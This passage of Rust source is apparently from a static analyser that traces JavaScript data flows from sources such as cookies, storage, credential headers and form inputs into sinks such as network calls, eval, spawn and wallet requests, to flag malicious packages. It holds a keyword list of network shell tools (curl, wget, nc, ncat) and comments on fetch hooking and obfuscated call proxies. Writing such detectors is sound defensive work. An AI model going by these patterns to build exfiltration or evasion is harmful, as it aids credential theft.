                        && let Some(body @ Expression::Identifier(_)) = a.body.as_expression()
                    {
                        parts.push(self.expr(body));
                    }
                    if p.computed
                        && let Some(k) = p.key.as_expression()
                    {
                        parts.push(self.expr(k));
                    }
                }
                ObjectPropertyKind::SpreadProperty(s) => parts.push(self.expr(&s.argument)),
            }
        }
        let n = self.join(&parts, "", at)?;
        // An object literal is a value of its own (stores into it must not reach its parts).
        if parts.iter().flatten().count() == 1 {
            let m = self.node();
            self.edge(n, m, "", at);
            return Some(m);
        }
        Some(n)
    }

    fn assign(&mut self, a: &AssignmentExpression<'_>) -> Option<Node> {
        let at = a.span.start;
        if let Some(m) = a.left.as_member_expression()
            && let Some(p) = self.env.property_name(m, 0)
        {
            self.name_function(&a.right, &p);
        }
        let v = self.expr(&a.right)?;
        self.network_hook(a);
        let v = if a.operator == AssignmentOperator::Assign {
            v
        } else {
            // `x += y`: x keeps its old value too.
            let n = self.node();
            self.edge(v, n, "concatenated", at);
            n
        };
        self.assign_target(&a.left, v, at);
        Some(v)
    }

    /// `window.fetch = function (url, opts) { … }`, `XMLHttpRequest.prototype.send =
    /// function (body) { … }`: the replacement's parameters receive every request.
    fn network_hook(&mut self, a: &AssignmentExpression<'_>) {
        let Some(m) = a.left.as_member_expression() else {
            return;
        };
        let Some(prop) = self.env.property_name(m, 0) else {
            return;
        };
        let target = match self.env.eval(m.object()) {
            Val::Global(g) if g == "globalThis" => prop,
            Val::Global(g) => format!("{g}.{prop}"),
            _ => return,
        };
        if !matches!(
            target.as_str(),
            "fetch"
                | "XMLHttpRequest.prototype.open"
                | "XMLHttpRequest.prototype.send"
                | "XMLHttpRequest.prototype.setRequestHeader"
                | "WebSocket.prototype.send"
                | "navigator.sendBeacon"
        ) {
            return;
        }
        let span = match a.right.without_parentheses() {
            Expression::FunctionExpression(f) => f.span.start,
            Expression::ArrowFunctionExpression(f) => f.span.start,
            _ => return,
        };
        let Some(&(idx, _)) = self.funcs.get(&span) else {
            return;
        };
        let params = self.f.funcs[idx as usize].params.clone();
        let at = a.span.start;
        for p in params {
            let s = self.source(
                SourceKind::Intercepted,
                at,
                &format!("arguments of the replaced {target}"),
            );
            self.edge(s, p, "", at);
        }
    }

    fn dynamic_import(&mut self, i: &ImportExpression<'_>) -> Option<Node> {
        let at = i.span.start;
        if let Expression::StringLiteral(s) = &i.source {
            if s.value.starts_with('.') {
                let n = self.node();
                self.f.imports.push((n, s.value.to_string()));
                return Some(n);
            }
            return None;
        }
        let d = self.expr(&i.source);
        let key = self.env.eval(&i.source).as_str().map(str::to_string);
        let s = self.sink(
            SinkKind::Require,
            at,
            "import() of a computed path",
            d.into_iter().collect(),
            None,
            None,
        );
        self.f.sinks[s].path_key = key;
        None
    }

    // ---- calls ---------------------------------------------------------------------------

    fn args(&mut self, args: &[Argument<'_>]) -> Vec<Option<Node>> {
        args.iter()
            .map(|a| match a {
                Argument::SpreadElement(s) => self.expr(&s.argument),
                other => other.as_expression().and_then(|x| self.expr(x)),
            })
            .collect()
    }

    /// The argument nodes that carry data: function expressions passed as callbacks are
    /// left out (a callback is called, not passed on).
    fn data_args(&self, arguments: &[Argument<'_>], args: &[Option<Node>]) -> Vec<Option<Node>> {
        args.iter()
            .zip(arguments)
            .map(|(n, a)| if is_function_arg(a) { None } else { *n })
            .collect()
    }

    /// Function-valued arguments (function expressions, or names that may hold one) get
    /// `data` as their parameters; their return value joins `result`.
    fn callbacks(
        &mut self,
        args: &[Argument<'_>],
        nodes: &[Option<Node>],
        data: Node,
        result: Node,
        at: u32,
    ) {
        for (a, n) in args.iter().zip(nodes) {
            let Some(n) = *n else { continue };
            let callable = matches!(
                a.as_expression().map(|x| x.without_parentheses()),
                Some(
                    Expression::FunctionExpression(_)
                        | Expression::ArrowFunctionExpression(_)
                        | Expression::Identifier(_)
                        | Expression::StaticMemberExpression(_)
                        | Expression::CallExpression(_)
                )
            );
            if callable {
                self.call_site(n, vec![data, data, data], result, at);
            }
        }
    }

    fn call(&mut self, c: &CallExpression<'_>) -> Option<Node> {
        // `[].forEach.call(form.elements, cb)`, `Array.prototype.map.call(list, cb)`: the
        // callback receives the list's items, as in `list.forEach(cb)`.
        if let Some(m) = c.callee.as_member_expression()
            && m.static_property_name() == Some("call")
            && let Some(inner) = m.object().without_parentheses().as_member_expression()
            && matches!(
                inner.static_property_name(),
                Some(
                    "forEach" | "map" | "filter" | "some" | "every" | "reduce" | "find" | "flatMap"
                )
            )
            && match inner.object().without_parentheses() {
                Expression::ArrayExpression(_) => true,
                Expression::StaticMemberExpression(p) => p.property.name == "prototype",
                _ => false,
            }
            && let Some((first, rest)) = c.arguments.split_first()
            && let Some(list) = first.as_expression()
        {
            let at = c.span.start;
            let l = self.expr(list);
            let nodes = self.args(rest);
            let r = self.node();
            self.callbacks(rest, &nodes, l.unwrap_or(r), r, at);
            return Some(r);
        }
        // `Reflect.apply(f, this, [a])`, `f.call(this, a)`, `f.apply(this, [a])`: `f(a)`, for
        // `f` a value the folder knows or a local function.
        let parts = self.env.indirect_parts(c, 0).or_else(|| {
            let m = c.callee.as_member_expression()?;
            let prop = m.static_property_name()?;
            let Expression::Identifier(id) = m.object() else {
                return None;
            };
            let local = self
                .env
                .symbol_of(id)
                .is_some_and(|s| self.func_syms.contains_key(&s));
            (local && matches!(prop, "call" | "apply")).then_some((m.object(), 0, prop == "apply"))
        });
        if let Some((f, this_at, spread)) = parts {
            if !spread {
                let rest = c.arguments.get(this_at + 1..).unwrap_or(&[]);
                return self.call_with(f, rest, c.span.start);
            }
            let alloc = oxc_allocator::Allocator::default();
            if let Some(args) = super::spread_args(&alloc, c, this_at + 1) {
                return self.call_with(f, &args, c.span.start);
            }
            // `String.fromCharCode.apply(null, codes.map((c) => c ^ K))`: the decoder takes
            // the whole (folded) array, as `decoded_constant` reads it.
            if self.env.worth_eval(f)
                && matches!(self.env.eval(f), Val::Global(ref g)
                    if g == "String.fromCharCode" || g == "String.fromCodePoint")
            {
                let rest = c.arguments.get(this_at + 1..).unwrap_or(&[]);
                return self.call_with(f, rest, c.span.start);
            }
        }
        self.call_with(&c.callee, &c.arguments, c.span.start)
    }

    fn call_with(
        &mut self,
        callee_ast: &Expression<'_>,
        arguments: &[Argument<'_>],
        at: u32,
    ) -> Option<Node> {
        let callee_expr = callee_ast.without_parentheses();
        // Module interop helpers return their argument.
        if let Expression::Identifier(id) = callee_expr
            && INTEROP.contains(&id.name.as_str())
        {
            let args = self.args(arguments);
            return args.first().copied().flatten();
        }
        // A webpack bundle's require of one of its own modules: that module's `module` and
        // `exports` values.
        if let Expression::Identifier(id) = callee_expr
            && let Some(sym) = self.env.symbol_of(id)
            && self.env.known.webpack.require.contains(&sym)
            && let Some(m) = arguments
                .first()
                .and_then(|a| a.as_expression())
                .and_then(super::webpack::Webpack::id_of)
                .and_then(|k| self.env.known.webpack.modules.get(&k))
            && m.external.is_none()
        {
            let (module, exports) = (m.module, m.exports);
            let r = self.node();
            for sym in [module, exports].into_iter().flatten() {
                let v = self.var(sym);
                self.edge(v, r, "imported", at);
            }
            return Some(r);
        }
        let callee = match self.env.worth_eval(callee_ast) {
            true => self.env.eval(callee_ast),
            false => Val::Unknown,
        };
        // A global the folder does not list (`encodeURIComponent`, `$.ajax`): by its path.
        let callee = match callee {
            Val::Unknown => self
                .global_path(callee_expr)
                .map_or(Val::Unknown, Val::Global),
            v => v,
        };
        if Env::is_require(&callee) {
            return self.require(arguments, at);
        }
        // A string-array decoder's call is a constant (the folder gives its string): no data
        // flows through the decoder's cache and helpers.
        if matches!(callee, Val::Decoder(_)) {
            return None;
        }
        // obfuscator.io's call proxies: `d['xYz'](exec, cmd)` is `exec(cmd)`.
        if self.env.is_call_proxy(&callee)
            && let Some((first, rest)) = arguments.split_first()
            && let Some(real) = first.as_expression()
        {
            return self.call_with(real, rest, at);
        }
        // A bundler's naming helper (`__name(fn, 'fn')`) returns the function it names: the
        // call is its first argument, so the functions named through one helper are not
        // joined in its return value (every caller of one would call them all).
        if self.env.is_naming_helper(&callee)
            && let Some(first) = arguments.first().and_then(|a| a.as_expression())
        {
            for a in arguments.iter().skip(1).filter_map(|a| a.as_expression()) {
                self.expr(a);
            }
            return self.expr(first);
        }
        let member = callee_expr.as_member_expression();
        let method = member.and_then(|m| self.env.property_name(m, 0));
        let external = is_external(&callee);
        // The receiver's data: a local value, or a global source (`localStorage.getItem(k)`,
        // `document.cookie.split(';')`).
        let name = callee.name().unwrap_or_default();
        if matches!(
            name.as_str(),
            "localStorage.getItem" | "sessionStorage.getItem"
        ) && let Some(Val::Str(key)) = arguments
            .first()
            .and_then(|a| a.as_expression())
            .map(|e| self.env.eval(e))
        {
            // One named entry, not the whole store.
            self.args(arguments);
            return Some(self.source(SourceKind::Storage, at, &format!("{name}('{key}')")));
        }
        // `req.getHeader('authorization')`: a credential the application put on its own
        // outgoing request (an agent's or an interceptor's view of every request), read back.
        if method.as_deref() == Some("getHeader")
            && let Some(Val::Str(h)) = arguments
                .first()
                .and_then(|a| a.as_expression())
                .map(|e| self.env.eval(e))
            && is_credential_header(&h)
        {
            self.args(arguments);
            let what = format!("request header getHeader('{}')", h.to_ascii_lowercase());
            return Some(self.source(SourceKind::Credential, at, &what));
        }
        if matches!(
            name.as_str(),
            "localStorage.setItem"
                | "localStorage.removeItem"
                | "localStorage.clear"
                | "sessionStorage.setItem"
                | "sessionStorage.removeItem"
                | "sessionStorage.clear"
        ) {
            // Writes return nothing: the store's content does not come back.
            self.args(arguments);
            return None;
        }
        if matches!(
            name.as_str(),
            "localStorage.getItem" | "sessionStorage.getItem"
        ) && matches!(
            arguments
                .first()
                .and_then(|a| a.as_expression())
                .map(|e| e.without_parentheses()),
            Some(
                Expression::Identifier(_)
                    | Expression::TemplateLiteral(_)
                    | Expression::BinaryExpression(_)
            )
        ) {
            // A storage wrapper's `getItem(key)`: the entry its caller names. A key that
            // itself comes from enumerating the store (`localStorage.key(i)`) still carries
            // the whole store.
            let args = self.args(arguments);
            let s = self.source(SourceKind::Storage, at, &format!("{name}(…)"));
            return self.join(&[Some(s), args.first().copied().flatten()], "", at);
        }
        let recv = match member {
            Some(m) if !external => self.expr(m.object()),
            Some(m) => self.global_value(m.object()).flatten(),
            None => None,
        };
        let args = self.args(arguments);
        // An EIP-1193 request that spends or signs (`provider.request({ method:
        // 'eth_sendTransaction', params: [tx] })`): what reaches it is what the wallet is
        // asked to approve.
        if matches!(method.as_deref(), Some("request" | "send" | "sendAsync"))
            && let Some(first) = arguments.first().and_then(|a| a.as_expression())
            && let Some(m) = wallet_spend_method(first, self.env)
            && let Some(Some(obj)) = args.first()
        {
            self.sink(
                SinkKind::Wallet,
                at,
                &format!("wallet {m}"),
                vec![*obj],
                None,
                None,
            );
        }
        // `this.m(…)` inside a class: the arguments reach the class's method `m` (a message
        // handler dispatching to `this.onMessage(raw)`). Only arguments to parameters: the
        // method's return value is not carried back, so one method shared by many callers
        // does not join their data; `this.x` values themselves carry nothing.
        if let Some(m) = member
            && matches!(m.object(), Expression::ThisExpression(_))
            && let Some(name) = method.as_deref()
            && let Some(cls) = self.classes.last().copied()
        {
            let this = self.node();
            self.edge(cls, this, "", at);
            let dead = self.node();
            let arg_nodes: Vec<Node> = args.iter().map(|a| a.unwrap_or(VOID)).collect();
            self.method_site(this, arg_nodes, dead, at, Some(name));
        }
        // DOM queries and event listeners read user input whatever the receiver
        // (`document.addEventListener('submit', …)`, `form.querySelectorAll('input')`).
        if let Some(m) = method.as_deref()
            && DOM_METHODS.contains(&m)
        {
            return self.method(m, member, arguments, &args, recv, at);
        }
        if external {
            let api = api_of(&callee, arguments, self.env);
            let name = callee.name().unwrap_or_default();
            return self.external(api, &name, arguments, &args, recv, at);
        }
        if let Some(method) = method {
            return self.method(&method, member, arguments, &args, recv, at);
        }
        // A local function (or a callback parameter): linked by the solver.
        let callee_node = self.expr(callee_ast)?;
        let result = self.node();
        let arg_nodes: Vec<Node> = args.iter().map(|a| a.unwrap_or(VOID)).collect();
        self.call_site(callee_node, arg_nodes, result, at);
        // `client[verb](url, opts)` with a method name the folder cannot compute (it comes
        // from another module or from data): an unknown library call as far as anyone can
        // tell, so its arguments and receiver reach its result as for a named method (a
        // local dispatch table is still linked through the call site above).
        if let Some(m) = member
            && matches!(m, MemberExpression::ComputedMemberExpression(_))
        {
            let mut parts = self.data_args(arguments, &args);
            parts.push(recv);
            for p in parts.into_iter().flatten() {
                self.edge(p, result, "", at);
            }
        }
        // `q('input')`, `$$('input[type=password]')`: a constant CSS selector handed to the
        // page's own query helper (a wrapper of `querySelectorAll`) selects what it names.
        if let Some(Expression::StringLiteral(sel)) = arguments
            .first()
            .and_then(|a| a.as_expression())
            .map(|e| e.without_parentheses())
            && is_css_selector(&sel.value)
            && let Some(kind) = selector_kind(&sel.value)
        {
            let s = self.source(kind, at, &format!("query helper ('{}')", sel.value));
            self.edge(s, result, "", at);
        }
        // `_(8)` where `_` decodes an entry of a constant table (`atob(t[i])`): decoded data,
        // and a destination when it spells a URL (`//203.0.113.7/p.gif` too).
        if matches!(callee, Val::Pure(_) | Val::ObjFn(..))
            && let Some(text) = self.env.decoded_call(&callee, arguments)
            && text.len() >= 3
        {
            if text.contains("://") || text.starts_with("//") {
                let url = if text.starts_with("//") {
                    format!("https:{text}")
                } else {
                    text.clone()
                };
                if let Some(u) = self.literal(&url, at) {
                    self.edge(u, result, "", at);
                }
            }
            let s = self.source(
                SourceKind::Decoded,
                at,
                &format!("decoded(…) = {}", crate::signal::truncate(&text, 60)),
            );
            self.edge(s, result, "", at);
        }
        Some(result)
    }

    fn require(&mut self, arguments: &[Argument<'_>], at: u32) -> Option<Node> {
        let arg = arguments.first().and_then(|a| a.as_expression())?;
        if let Expression::StringLiteral(s) = arg.without_parentheses() {
            if s.value.starts_with('.') {
                return Some(self.relative_require(&s.value, at));
            }
            return None;
        }
        let key = self.env.eval(arg).as_str().map(str::to_string);
        if let Some(k) = &key
            && k.starts_with('.')
            && !k.contains('\u{0}')
        {
            return Some(self.relative_require(k, at));
        }
        // `require(`${dir}/package.json`)`: a JSON file is parsed, not run.
        if super::json_module_path(arg) {
            self.expr(arg);
            return None;
        }
        let d = self.expr(arg);
        let s = self.sink(
            SinkKind::Require,
            at,
            "require of a computed path",
            d.into_iter().collect(),
            None,
            None,
        );
        self.f.sinks[s].path_key = key;
        None
    }

    /// `require('./x')`: the module's exports; a data file (`./data.json`) is also package
    /// data read at run time.
    fn relative_require(&mut self, spec: &str, at: u32) -> Node {
        let n = self.node();
        self.f.imports.push((n, spec.to_string()));
        if is_data_file(spec) && !spec.ends_with("package.json") {
            let s = self.source(SourceKind::PackageData, at, &format!("require('{spec}')"));
            self.edge(s, n, "", at);
        }
        n
    }

    fn new_expr(&mut self, n: &NewExpression<'_>) -> Option<Node> {
        let at = n.span.start;
        let callee = if self.env.worth_eval(&n.callee) {
            self.env.eval(&n.callee)
        } else {
            Val::Unknown
        };
        let name = callee.name().unwrap_or_default();
        if name == "Promise" {
            let result = self.node();
            let args = self.args(&n.arguments);
            if let Some(Some(exec)) = args.first() {
                let resolve = self.resolver(result);
                self.call_site(*exec, vec![resolve, resolve], VOID, at);
            }
            return Some(result);
        }
        if name == "FormData" {
            let args = self.args(&n.arguments);
            let s = self.source(SourceKind::FormInput, at, "new FormData()");
            let mut parts = args;
            parts.push(Some(s));
            return self.join(&parts, "", at);
        }
        let args = self.args(&n.arguments);
        if is_external(&callee) {
            let api = api_of(&callee, &n.arguments, self.env);
            return self.external_new(api, &name, n, &args, at);
        }
        // `new LocalClass(…)`: arguments flow into the instance.
        let callee_node = self.expr(&n.callee);
        let result = self.node();
        if let Some(cn) = callee_node {
            let arg_nodes: Vec<Node> = args.iter().map(|a| a.unwrap_or(VOID)).collect();
            self.call_site(cn, arg_nodes, result, at);
        }
        for a in args.into_iter().flatten() {
            self.edge(a, result, "", at);
        }
        Some(result)
    }

    fn external_new(
        &mut self,
        api: Api,
        name: &str,
        n: &NewExpression<'_>,
        args: &[Option<Node>],
        at: u32,
    ) -> Option<Node> {
        match api {
            Api::Network => {
                let dest = args.first().copied().flatten();
                let dest_const = n
                    .arguments
                    .first()
                    .and_then(|a| a.as_expression())
                    .and_then(|e| self.fold_dest(e));
                let data: Vec<Node> = args.iter().flatten().copied().collect();
                if !data.is_empty() {
                    self.sink(SinkKind::Network, at, name, data, dest, dest_const.clone());
                }
                // `new WebSocket(proto + location.host + '/__hmr')`: the page's own server.
                if dest_const.is_none()
                    && n.arguments
                        .first()
                        .and_then(|a| a.as_expression())
                        .is_some_and(|e| reads_page_host(e, 0))
                {
                    let h = self.source(SourceKind::NetHandle, at, "");
                    let what = format!("response of {name} from {SAME_ORIGIN}");
                    let d = self.source(SourceKind::NetworkData, at, &what);
                    return self.join(&[Some(h), Some(d)], "", at);
                }
                Some(self.network_result(name, dest_const.as_deref(), at))
            }
            Api::Eval => {
                let data: Vec<Node> = args.iter().flatten().copied().collect();
                let s = self.sink(SinkKind::Eval, at, &format!("new {name}"), data, None, None);
                if hands_node_scope(&n.arguments, self.env) {
                    self.f.sinks[s].flags |= flags::NODE_SCOPE;
                }
                self.join(args, "", at)
            }
            Api::Decipher => {
                let s = self.source(SourceKind::Deciphered, at, name);
                let mut parts = self.data_args(&n.arguments, args);
                parts.push(Some(s));
                self.join(&parts, "decrypted", at)
            }
            Api::Source(kind) => Some(self.source(kind, at, name)),
            Api::Sanitize => None,
            _ => self.join(args, "", at),
        }
    }

    /// A network client call's result: a handle whose writes send, carrying received data.
    fn network_result(&mut self, name: &str, dest: Option<&str>, at: u32) -> Node {
        // The handle's detail is where it sends (for the sinks on its methods).
        let h = self.source(SourceKind::NetHandle, at, dest.unwrap_or(""));
        let what = match dest {
            Some(url) => format!("response of {name} from {url}"),
            None => format!("response of {name}"),
        };
        let d = self.source(SourceKind::NetworkData, at, &what);
        let mut parts = vec![Some(h), Some(d)];
        if let Some(url) = dest
            && is_ip_echo(url)
        {
            parts.push(Some(self.source(
                SourceKind::NetAddress,
                at,
                &format!("public IP lookup {url}"),
            )));
        }
        self.join(&parts, "", at).unwrap_or(VOID)
    }

    fn external(
        &mut self,
        api: Api,
        name: &str,
        arguments: &[Argument<'_>],
        args: &[Option<Node>],
        recv: Option<Node>,
        at: u32,
    ) -> Option<Node> {
        let arg0 = arguments.first().and_then(|a| a.as_expression());
        match api {
            Api::Network => {
                let dest = args.first().copied().flatten();
                let dest_const = arg0.and_then(|e| self.fold_dest(e));
                let data: Vec<Node> = args
                    .iter()
                    .zip(arguments.iter())
                    .filter(|(_, a)| !is_function_arg(a))
                    .filter_map(|(n, _)| *n)
                    .collect();
                if !data.is_empty() {
                    self.sink(SinkKind::Network, at, name, data, dest, dest_const.clone());
                }
                let r = self.network_result(name, dest_const.as_deref(), at);
                self.callbacks(arguments, args, r, r, at);
                Some(r)
            }
            Api::Dns => {
                let data: Vec<Node> = args.first().copied().flatten().into_iter().collect();
                self.sink(SinkKind::Dns, at, name, data, None, None);
                let r = self.node();
                self.callbacks(arguments, args, r, r, at);
                Some(r)
            }
            Api::Spawn => self.spawn(name, arguments, args, at),
            Api::MailTransport => {
                let dest_const = arg0.and_then(|e| self.fold_dest(e));
                Some(self.network_result(name, dest_const.as_deref(), at))
            }
            Api::Eval => {
                // `setTimeout(fn, ms)` is a callback; `setTimeout(string)` and eval run code.
                let timer = name.starts_with("set");
                // A timer runs code only when given a string, never a name or a function.
                let stringish = |a: &Argument<'_>| {
                    matches!(
                        a.as_expression().map(|e| e.without_parentheses()),
                        Some(
                            Expression::StringLiteral(_)
                                | Expression::TemplateLiteral(_)
                                | Expression::BinaryExpression(_)
                                | Expression::CallExpression(_)
                        )
                    )
                };
                let code_args: Vec<Node> = args
                    .iter()
                    .zip(arguments.iter())
                    .take(if timer { 1 } else { usize::MAX })
                    .filter(|(_, a)| !is_function_arg(a) && (!timer || stringish(a)))
                    .filter_map(|(n, _)| *n)
                    .collect();
                if !code_args.is_empty() {
                    let s = self.sink(SinkKind::Eval, at, name, code_args, None, None);
                    if !timer && hands_node_scope(arguments, self.env) {
                        self.f.sinks[s].flags |= flags::NODE_SCOPE;
                    }
                }
                let r = self.node();
                self.callbacks(arguments, args, VOID, r, at);
                for a in args.iter().flatten() {
                    self.edge(*a, r, "", at);
                }
                Some(r)
            }
            Api::FsRead => {
                let r = self.node();
                if let Some(Some(p)) = args.first() {
                    self.f.reads.push((*p, r, self.line(at)));
                    // A directory listing names files under the path: its markers (a credential
                    // store's name) pass on, the path's other data does not become content.
                    self.edge(*p, r, crate::flow::MARKERS_ONLY, at);
                }
                if let Some(e) = arg0
                    && let Some(path) = self.env.eval(e).as_str().map(str::to_string)
                {
                    if let Some(store) = credential_store(&path) {
                        let s = self.source(SourceKind::Credential, at, &store);
                        self.edge(s, r, "", at);
                    } else if is_data_file(&path) {
                        let s = self.source(SourceKind::PackageData, at, &path);
                        self.edge(s, r, "", at);
                    }
                }
                self.callbacks(arguments, args, r, r, at);
                Some(r)
            }
            Api::FsWrite => {
                let data: Vec<Node> = args.get(1).copied().flatten().into_iter().collect();
                let key = arg0.and_then(|e| self.path_key(e));
                let s = self.sink(SinkKind::FileWrite, at, name, data, None, None);
                self.f.sinks[s].path_key = key;
                let r = self.node();
                self.callbacks(arguments, args, r, r, at);
                Some(r)
            }
            Api::FsStream => {
                let key = arg0.and_then(|e| self.path_key(e)).unwrap_or_default();
                Some(self.source(SourceKind::FileHandle, at, &key))
            }
            Api::Source(kind) => {
                let s = self.source(kind, at, name);
                self.callbacks(arguments, args, s, s, at);
                Some(s)
            }
            Api::Decode(what) => {
                // Decoding a constant is a hidden payload (a source); decoding run-time data
                // (parsers, protocol code) only passes it on.
                let mut parts = self.data_args(arguments, args);
                parts.push(recv);
                let joined = self.join(&parts, what, at);
                let r = self.node();
                if let Some(j) = joined {
                    self.edge(j, r, what, at);
                }
                if let Some(text) = self.decoded_constant(name, arguments) {
                    // A URL hidden in char codes or base64 is still a destination.
                    if let Some(u) = self.literal(&text, at)
                        && text.contains("://")
                    {
                        self.edge(u, r, "", at);
                    }
                    let s = self.source(
                        SourceKind::Decoded,
                        at,
                        &format!("{name}(…) = {}", crate::signal::truncate(&text, 60)),
                    );
                    self.edge(s, r, "", at);
                }
                Some(r)
            }
            Api::Decipher => {
                let s = self.source(SourceKind::Deciphered, at, name);
                let mut parts = self.data_args(arguments, args);
                parts.push(Some(s));
                self.join(&parts, "decrypted", at)
            }
            Api::Transform(what) => {
                // `Object.assign(target, …sources)`, `Object.defineProperty(o, k, d)`: the
                // target holds the rest.
                let stores = matches!(
                    name,
                    "Object.assign" | "Object.defineProperty" | "Object.defineProperties"
                );
                if stores && let Some(Some(target)) = args.first() {
                    for a in args.iter().skip(1).flatten() {
                        self.edge(*a, *target, "stored", at);
                    }
                }
                let mut parts = self.data_args(arguments, args);
                parts.push(recv);
                let r = self.join(&parts, what, at);
                // …and calls none of them: a bundler's `defineProperty(fn, 'name', …)` naming
                // helper does not run `fn` (called with its own result, a helper would take
                // every value it is ever applied to as an argument of the function it names).
                if let Some(r) = r
                    && !stores
                {
                    self.callbacks(arguments, args, r, r, at);
                }
                r
            }
            Api::Sanitize => None,
            Api::Other => {
                let r = self.node();
                // The module's own name aside, any step of the path (`tweetnacl.sign.detached`).
                if name.split('.').skip(1).any(one_way)
                    || one_way(name.rsplit('.').next().unwrap_or(name))
                {
                    // A signature or a derived key does not reveal the secret it came from.
                    self.callbacks(arguments, args, r, r, at);
                    return Some(r);
                }
                let mut parts = self.data_args(arguments, args);
                parts.push(recv);
                // An unknown library call may serialize what it is given.
                for p in parts.into_iter().flatten() {
                    self.edge(p, r, crate::flow::SERIALIZED, at);
                }
                self.callbacks(arguments, args, r, r, at);
                Some(r)
            }
        }
    }

    fn spawn(
        &mut self,
        name: &str,
        arguments: &[Argument<'_>],
        args: &[Option<Node>],
        at: u32,
    ) -> Option<Node> {
        let mut data = Vec::new();
        let mut command = Vec::new();
        let mut fl = 0u8;
        for (a, n) in arguments.iter().zip(args) {
            let Some(e) = a.as_expression() else { continue };
            match e.without_parentheses() {
                Expression::ObjectExpression(o) => fl |= spawn_flags(o.as_ref(), self.env),
                Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_) => {}
                _ => {
                    if let Some(n) = n {
                        data.push(*n);
                    }
                    match self.env.eval(e) {
                        Val::Str(s) => command.push(s),
                        Val::Arr(items) => command
                            .extend(items.iter().filter_map(|i| i.as_str().map(str::to_string))),
                        _ => {}
                    }
                }
            }
        }
        if runs_constant_script(arguments, self.env) {
            fl |= flags::CONST_SCRIPT;
        }
        let line = command.join(" ");
        let key = match command.first() {
            Some(p) if !p.trim().is_empty() => Some(program_key(p)),
            _ => arguments
                .first()
                .and_then(|a| a.as_expression())
                .and_then(|e| self.path_key(e)),
        };
        let s = self.sink(
            SinkKind::Exec,
            at,
            &format!("{name} {}", crate::signal::truncate(&line, 80)),
            data.clone(),
            None,
            None,
        );
        self.f.sinks[s].flags = fl;
        self.f.sinks[s].path_key = key;
        let lower = line.to_ascii_lowercase();
        if [
            "curl ",
            "wget ",
            "nc ",
            "ncat ",
            "nslookup ",
            "dig ",
            "ping ",
            "invoke-webrequest",
            "iwr ",
            "scp ",
            "ftp ",
        ]
        .iter()
        .any(|t| lower.contains(t))
        {
            let url = lower
                .split_whitespace()
                .find(|w| w.starts_with("http://") || w.starts_with("https://"))
                .map(str::to_string);
            self.sink(
                SinkKind::Network,
                at,
                &format!("{name} running `{}`", crate::signal::truncate(&line, 60)),
                data,
                None,
                url,
            );
        }
        let r = match host_command(&lower) {
            Some(kind) => self.source(kind, at, &line),
            None => self.node(),
        };
        self.callbacks(arguments, args, r, r, at);
        Some(r)
    }

    /// Method calls on a local value.
    fn method(
        &mut self,
        method: &str,
        member: Option<&MemberExpression<'_>>,
        arguments: &[Argument<'_>],
        args: &[Option<Node>],
        recv: Option<Node>,
        at: u32,
    ) -> Option<Node> {
        let first = arguments.first().and_then(|a| a.as_expression());
        let first_str = first.and_then(|e| self.env.eval(e).as_str().map(str::to_string));
        // `m._compile(code, filename)` on a module object (`new module.constructor()`, a
        // `Module` instance): compiles its first argument.
        if method == "_compile" {
            let code: Vec<Node> = args.first().copied().flatten().into_iter().collect();
            if !code.is_empty() {
                self.sink(SinkKind::Eval, at, "module._compile", code, None, None);
            }
        }
        match method {
            "querySelector"
            | "querySelectorAll"
            | "getElementsByTagName"
            | "getElementsByName"
            | "getElementById"
            | "getElementsByClassName"
            | "closest" => {
                if let Some(sel) = &first_str
                    && let Some(kind) = selector_kind(sel)
                {
                    return Some(self.source(kind, at, &format!("{method}('{sel}')")));
                }
                return recv;
            }
            "addEventListener" | "on" | "once" | "addListener" => {
                let kind = first_str
                    .as_deref()
                    .and_then(event_kind)
                    .or_else(|| intercepting_listener(method, member, first_str.as_deref()));
                let r = match kind {
                    Some(k) => {
                        let what = match (&first_str, member.map(|m| m.object())) {
                            (Some(ev), _) => format!("'{ev}' event"),
                            (None, Some(Expression::StaticMemberExpression(o))) => {
                                format!("{} listener", o.property.name)
                            }
                            _ => "listener".to_string(),
                        };
                        self.source(k, at, &what)
                    }
                    None => recv?,
                };
                // `el.addEventListener('change', () => save(el.value))` on a page element
                // (not `document`/`window`): the element itself is an input whose value the
                // handler reads, whatever selector found it.
                // DOM `addEventListener` only: Node emitters' `on('change')` (file watchers,
                // `stdin` key presses) are not page inputs.
                if method == "addEventListener"
                    && kind == Some(SourceKind::FormInput)
                    && let Some(rn) = recv
                    && member.is_some_and(|m| {
                        !receiver_named(
                            m,
                            &[
                                "document",
                                "window",
                                "globalThis",
                                "self",
                                "process",
                                "stdin",
                            ],
                        )
                    })
                {
                    self.edge(r, rn, "event target", at);
                }
                self.callbacks(arguments, args, r, VOID, at);
                return Some(r);
            }
            // The browser's cookie jar through an extension API or the Cookie Store API
            // (`chrome.cookies.getAll({ domain })`, `api.cookies.get({ url, name }, cb)`,
            // `cookieStore.getAll()`), `HttpOnly` cookies included. A server framework's
            // `ctx.cookies.get('name')` reads one request cookie by name: not this.
            "getAll" | "get"
                if member.is_some_and(|m| receiver_named(m, &["cookies", "cookieStore"]))
                    && (method == "getAll"
                        || matches!(
                            first.map(|e| e.without_parentheses()),
                            Some(Expression::ObjectExpression(_))
                        )) =>
            {
                let r = self.source(SourceKind::Cookie, at, &format!("cookies.{method}"));
                self.callbacks(arguments, args, r, VOID, at);
                return Some(r);
            }
            // `ctx.getImageData(…).data`: the pixels of an image the page drew (fetched from a
            // URL): data that arrived over the network, whatever a decoder makes of it.
            "getImageData" => {
                self.args(arguments);
                return Some(self.source(
                    SourceKind::NetworkData,
                    at,
                    "image pixels (getImageData)",
                ));
            }
            "getData" if member.is_some_and(|m| receiver_named(m, &["clipboardData"])) => {
                return Some(self.source(SourceKind::Clipboard, at, "clipboardData.getData"));
            }
            "readText" | "read" if member.is_some_and(|m| receiver_named(m, &["clipboard"])) => {
                return Some(self.source(
                    SourceKind::Clipboard,
                    at,
                    "navigator.clipboard.readText",
                ));
            }
            "test" | "includes" | "startsWith" | "endsWith" | "indexOf" | "lastIndexOf"
            | "search" | "localeCompare" | "hasOwnProperty" | "has" | "digest" | "getTime"
            | "isArray" | "existsSync" | "exists" | "statSync" => {
                return None;
            }
            _ => {}
        }
        // Writes on a network handle (`req.write`, `ws.send`, `socket.write`, `xhr.send`) or a
        // file stream; `src.pipe(dst)` into either.
        if let Some(r) = recv {
            match method {
                "write" | "end" | "send" | "sendText" | "emit" | "setRequestHeader" | "open"
                | "sendUTF" | "sendBytes" | "sendMail" => {
                    let data: Vec<Node> = args.iter().flatten().copied().collect();
                    if !data.is_empty() {
                        // A datagram socket names its destination per message:
